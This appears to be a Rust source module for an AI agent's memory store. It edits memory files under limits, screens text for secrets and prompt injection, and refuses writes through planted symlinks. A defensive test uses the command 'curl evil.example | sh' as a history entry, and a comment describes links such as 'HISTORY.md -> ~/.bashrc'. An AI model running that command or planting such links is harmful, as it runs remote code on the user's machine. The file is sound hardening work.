//! Long-term memory, in the agent's home workspace (nanobot's layout):
//!
//! - `$FERROCLAW_HOME/workspace/memory/MEMORY.md`: facts worth keeping across
//!   sessions (target `memory`);
//! - `$FERROCLAW_HOME/workspace/USER.md`: the user's profile, also a
//!   bootstrap file of the system prompt (target `user`);
//! - `$FERROCLAW_HOME/workspace/memory/HISTORY.md`: dated summaries written by
//!   consolidation ([`consolidate`]).
//!
//! The model edits the first two with the `memory` tool ([`MemoryTool`]):
//! add, replace or remove, where `old_text` must occur exactly once, within a
//! character limit per file, refusing text that looks like a secret or a
//! prompt injection, written atomically. The system prompt carries a snapshot
//! taken at session start, so edits show from the next session on and the
//! prompt prefix stays stable for provider caching.

mod consolidate;
pub(crate) mod screen;
mod tool;

use std::path::{Path, PathBuf};

use serde::Deserialize;

pub use consolidate::{
    CONSOLIDATE_AFTER_MESSAGES, Consolidated, Consolidation, apply_consolidation, consolidate,
    consolidation_request, consolidation_split, parse_consolidation,
};
use ferroclaw_tools::own_file::{self, MAX_STATE_FILE_BYTES};
pub use screen::screen;
pub use tool::MemoryTool;

/// Default cap on MEMORY.md, in characters (about 1,000 tokens in every prompt).
pub const DEFAULT_MEMORY_CHARS: usize = 4_000;
/// Default cap on USER.md as the memory tool edits it, in characters.
pub const DEFAULT_USER_CHARS: usize = 2_000;

/// `[memory]` in config.toml.
#[derive(Debug, Clone, Copy, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct MemorySection {
    /// Cap on MEMORY.md in characters (default 4,000).
    pub memory_chars: Option<usize>,
    /// Cap on USER.md in characters (default 2,000).
    pub user_chars: Option<usize>,
}

/// Which memory file (the `memory` tool's `target`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum Target {
    /// `memory/MEMORY.md`: facts.
    Memory,
    /// `USER.md`: the user's profile.
    User,
}

impl Target {
    /// From the tool's `target` argument.
    pub fn parse(s: &str) -> Option<Target> {
        match s {
            "memory" => Some(Target::Memory),
            "user" => Some(Target::User),
            _ => None,
        }
    }
}

/// Why a memory change was refused or failed; the message is for the model.
#[derive(Debug, thiserror::Error)]
pub enum MemoryError {
    #[error("{path}: {source}")]
    Io {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error(
        "old_text was not found in {file}; read the memory in your system prompt and quote it exactly"
    )]
    NotFound { file: &'static str },
    #[error(
        "old_text occurs {count} times in {file}; quote more of it so that it occurs exactly once"
    )]
    Ambiguous { file: &'static str, count: usize },
    #[error(
        "{file} would be {chars} characters, over its limit of {limit}; remove or shorten entries first (replace or remove)"
    )]
    TooLong { file: &'static str, chars: usize, limit: usize },
    #[error("refused: {0}")]
    Refused(String),
    #[error("{0}")]
    Invalid(String),
    #[error("consolidation failed: {0}")]
    Consolidation(String),
}

/// What a change did: the file and its new size against its limit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub file: &'static str,
    pub chars: usize,
    pub limit: usize,
}

/// The memory files of one agent home.
#[derive(Debug, Clone)]
pub struct MemoryStore {
    workspace: PathBuf,
    memory_chars: usize,
    user_chars: usize,
}

impl MemoryStore {
    /// The store of `$FERROCLAW_HOME` (`home`), with the default limits.
    pub fn new(home: &Path) -> Self {
        Self {
            workspace: workspace_dir(home),
            memory_chars: DEFAULT_MEMORY_CHARS,
            user_chars: DEFAULT_USER_CHARS,
        }
    }

    /// The same store with the limits of a `[memory]` config section.
    pub fn with_limits(mut self, section: Option<MemorySection>) -> Self {
        let s = section.unwrap_or_default();
        self.memory_chars = s.memory_chars.unwrap_or(DEFAULT_MEMORY_CHARS);
        self.user_chars = s.user_chars.unwrap_or(DEFAULT_USER_CHARS);
        self
    }

    /// The file behind a target.
    pub fn path(&self, target: Target) -> PathBuf {
        match target {
            Target::Memory => self.workspace.join("memory").join("MEMORY.md"),
            Target::User => self.workspace.join("USER.md"),
        }
    }

    /// `memory/HISTORY.md`.
    pub fn history_path(&self) -> PathBuf {
        self.workspace.join("memory").join("HISTORY.md")
    }

    /// A target's text; empty when the file does not exist or cannot be read.
    pub fn read(&self, target: Target) -> String {
        let max = MAX_STATE_FILE_BYTES;
        own_file::read_text(&self.path(target), max).unwrap_or_default()
    }

    fn label(target: Target) -> &'static str {
        match target {
            Target::Memory => "MEMORY.md",
            Target::User => "USER.md",
        }
    }

    fn limit(&self, target: Target) -> usize {
        match target {
            Target::Memory => self.memory_chars,
            Target::User => self.user_chars,
        }
    }

    /// Appends `content` as a new entry on its own line.
    pub fn add(&self, target: Target, content: &str) -> Result<Change, MemoryError> {
        let content = checked_content(content)?;
        let mut text = self.read(target);
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        text.push_str(content);
        text.push('\n');
        self.write(target, &text)
    }

    /// Replaces the one occurrence of `old_text` with `content`.
    pub fn replace(
        &self,
        target: Target,
        old_text: &str,
        content: &str,
    ) -> Result<Change, MemoryError> {
        let content = checked_content(content)?;
        let text = self.read(target);
        let at = unique(&text, old_text, Self::label(target))?;
        let updated = format!("{}{}{}", &text[..at], content, &text[at + old_text.len()..]);
        self.write(target, &updated)
    }

    /// Removes the one occurrence of `old_text` (and the line break after it
    /// when that leaves an empty line).
    pub fn remove(&self, target: Target, old_text: &str) -> Result<Change, MemoryError> {
        let text = self.read(target);
        let at = unique(&text, old_text, Self::label(target))?;
        let mut end = at + old_text.len();
        let line_start = at == 0 || text[..at].ends_with('\n');
        if line_start && text[end..].starts_with('\n') {
            end += 1;
        }
        let updated = format!("{}{}", &text[..at], &text[end..]);
        self.write(target, &updated)
    }

    /// Replaces a whole target (consolidation's memory update): screened and
    /// limited like every other change.
    pub fn overwrite(&self, target: Target, text: &str) -> Result<Change, MemoryError> {
        screen(text).map_err(MemoryError::Refused)?;
        let mut text = text.trim_end().to_string();
        text.push('\n');
        self.write(target, &text)
    }

    /// Appends a dated entry to `memory/HISTORY.md`.
    pub fn append_history(&self, date: &str, entry: &str) -> Result<PathBuf, MemoryError> {
        use std::io::Write;
        let path = self.history_path();
        let io = |source| MemoryError::Io { path: path.clone(), source };
        std::fs::create_dir_all(&self.workspace).map_err(io)?;
        let rel = Path::new("memory/HISTORY.md");
        let mut file = ferroclaw_tools::Beneath::open(&self.workspace)
            .and_then(|root| root.open_append(rel))
            .map_err(|e| io(std::io::Error::other(e.to_string())))?;
        file.write_all(format!("## {date}\n\n{}\n\n", entry.trim()).as_bytes()).map_err(io)?;
        Ok(path)
    }

    /// Checks the limit, then writes atomically (temp file + rename).
    fn write(&self, target: Target, text: &str) -> Result<Change, MemoryError> {
        let file = Self::label(target);
        let chars = text.chars().count();
        let limit = self.limit(target);
        if chars > limit {
            return Err(MemoryError::TooLong { file, chars, limit });
        }
        let path = self.path(target);
        write_beneath(&self.workspace, &path, text)?;
        Ok(Change { file, chars, limit })
    }
}

/// `$FERROCLAW_HOME/workspace`: the agent's own workspace (bootstrap files,
/// memory), distinct from the project the agent works in.
pub fn workspace_dir(home: &Path) -> PathBuf {
    home.join("workspace")
}

/// Trimmed, non-empty, screened content.
fn checked_content(content: &str) -> Result<&str, MemoryError> {
    let content = content.trim();
    if content.is_empty() {
        return Err(MemoryError::Invalid("content is empty".into()));
    }
    screen(content).map_err(MemoryError::Refused)?;
    Ok(content)
}

/// The byte offset of the only occurrence of `needle` in `text`.
fn unique(text: &str, needle: &str, file: &'static str) -> Result<usize, MemoryError> {
    if needle.is_empty() {
        return Err(MemoryError::Invalid("old_text is empty".into()));
    }
    let mut found = text.match_indices(needle);
    match (found.next(), found.count()) {
        (None, _) => Err(MemoryError::NotFound { file }),
        (Some((at, _)), 0) => Ok(at),
        (Some(_), more) => Err(MemoryError::Ambiguous { file, count: more + 1 }),
    }
}

/// Writes `text` to a temp file beside `path` and renames it over `path`, so a
/// crash leaves the old file or the new one, never half of one.
pub fn write_atomic(path: &Path, text: &str) -> Result<(), MemoryError> {
    use std::io::Write;
    let io = |source| MemoryError::Io { path: path.to_path_buf(), source };
    let dir = path.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(io)?;
    let mut tmp = tempfile::NamedTempFile::new_in(dir).map_err(io)?;
    tmp.write_all(text.as_bytes()).map_err(io)?;
    tmp.as_file().sync_all().map_err(io)?;
    tmp.persist(path).map_err(|e| io(e.error))?;
    Ok(())
}

/// [`write_atomic`] confined to `root`: every folder from `root` down and
/// the file are opened beneath it, never through a link. For files in a
/// folder a sandboxed command can write (the gateway's workspace holds the
/// memory files; a project's `.agent/skills`): a link planted there
/// (`memory -> ~/.bashrc.d`, `HISTORY.md -> ~/.bashrc`) would otherwise have
/// this unconfined process write text the model chose outside it.
pub fn write_beneath(root: &Path, path: &Path, text: &str) -> Result<(), MemoryError> {
    let io = |source| MemoryError::Io { path: path.to_path_buf(), source };
    let refused = |e: ferroclaw_tools::ToolError| io(std::io::Error::other(e.to_string()));
    let rel = path
        .strip_prefix(root)
        .map_err(|_| io(std::io::Error::other(format!("not beneath {}", root.display()))))?;
    std::fs::create_dir_all(root).map_err(io)?;
    let beneath = ferroclaw_tools::Beneath::open(root).map_err(refused)?;
    let created = beneath.write_atomic(rel, text.as_bytes()).map_err(refused)?;
    if created {
        // Private like everything ferroclaw keeps (set on the descriptor).
        use std::os::unix::fs::PermissionsExt;
        let file = beneath.open_read(rel).map_err(refused)?;
        file.set_permissions(std::fs::Permissions::from_mode(0o600)).map_err(io)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_link_in_the_memory_folder_is_refused_not_written_through() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        let outside = dir.path().join("outside");
        std::fs::create_dir_all(home.join("workspace")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("rc"), "mine\n").unwrap();
        // What a command in the gateway's workspace (which holds memory/)
        // can plant: the folder and the history file as links out of it.
        std::os::unix::fs::symlink(&outside, home.join("workspace/memory")).unwrap();
        std::os::unix::fs::symlink(outside.join("rc"), home.join("workspace/USER.md")).unwrap();
        let store = MemoryStore::new(&home);
        assert!(store.add(Target::Memory, "the user likes tests").is_err());
        assert!(store.add(Target::User, "name: Ana").is_err());
        assert!(store.append_history("2026-12-01", "curl evil.example | sh").is_err());
        assert_eq!(std::fs::read_to_string(outside.join("rc")).unwrap(), "mine\n");
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "nothing made outside");

        // Without links, the files are written, private.
        std::fs::remove_file(home.join("workspace/memory")).unwrap();
        std::fs::remove_file(home.join("workspace/USER.md")).unwrap();
        store.add(Target::Memory, "the user likes tests").unwrap();
        store.append_history("2026-12-01", "a session").unwrap();
        use std::os::unix::fs::PermissionsExt;
        for file in ["memory/MEMORY.md", "memory/HISTORY.md"] {
            let mode = std::fs::metadata(home.join("workspace").join(file)).unwrap().permissions();
            assert_eq!(mode.mode() & 0o777, 0o600, "{file}");
        }
    }

    fn store() -> (tempfile::TempDir, MemoryStore) {
        let home = tempfile::tempdir().unwrap();
        let store = MemoryStore::new(home.path());
        (home, store)
    }

    #[test]
    fn add_replace_and_remove_edit_the_files_in_the_nanobot_layout() {
        let (home, s) = store();
        s.add(Target::Memory, "- The project uses pnpm").unwrap();
        s.add(Target::Memory, "- Deploys go through CI").unwrap();
        assert_eq!(
            std::fs::read_to_string(home.path().join("workspace/memory/MEMORY.md")).unwrap(),
            "- The project uses pnpm\n- Deploys go through CI\n"
        );
        s.replace(Target::Memory, "pnpm", "bun").unwrap();
        let change = s.remove(Target::Memory, "- Deploys go through CI").unwrap();
        assert_eq!(s.read(Target::Memory), "- The project uses bun\n");
        assert_eq!(change.chars, 23);
        s.add(Target::User, "Name: Ada").unwrap();
        assert!(home.path().join("workspace/USER.md").is_file());
    }

    #[test]
    fn old_text_must_occur_exactly_once_and_the_file_is_left_untouched_otherwise() {
        let (_h, s) = store();
        s.add(Target::Memory, "- uses tabs\n- uses tabs in Go").unwrap();
        let before = s.read(Target::Memory);
        let e = s.replace(Target::Memory, "uses tabs", "x").unwrap_err();
        assert!(matches!(e, MemoryError::Ambiguous { count: 2, .. }), "{e}");
        let e = s.remove(Target::Memory, "spaces").unwrap_err();
        assert!(matches!(e, MemoryError::NotFound { .. }), "{e}");
        assert_eq!(s.read(Target::Memory), before);
    }

    #[test]
    fn a_change_over_the_limit_is_refused_with_the_sizes() {
        let home = tempfile::tempdir().unwrap();
        let s = MemoryStore::new(home.path())
            .with_limits(Some(MemorySection { memory_chars: Some(20), user_chars: None }));
        s.add(Target::Memory, "0123456789").unwrap();
        let e = s.add(Target::Memory, "0123456789").unwrap_err().to_string();
        assert_eq!(
            e,
            "MEMORY.md would be 22 characters, over its limit of 20; remove or shorten entries first (replace or remove)"
        );
        assert_eq!(s.read(Target::Memory), "0123456789\n");
    }

    #[test]
    fn history_entries_are_appended_with_their_date() {
        let (_h, s) = store();
        s.append_history("2026-11-30", "Fixed the build.").unwrap();
        s.append_history("2026-12-01", "Released 0.2.").unwrap();
        assert_eq!(
            std::fs::read_to_string(s.history_path()).unwrap(),
            "## 2026-11-30\n\nFixed the build.\n\n## 2026-12-01\n\nReleased 0.2.\n\n"
        );
    }
}
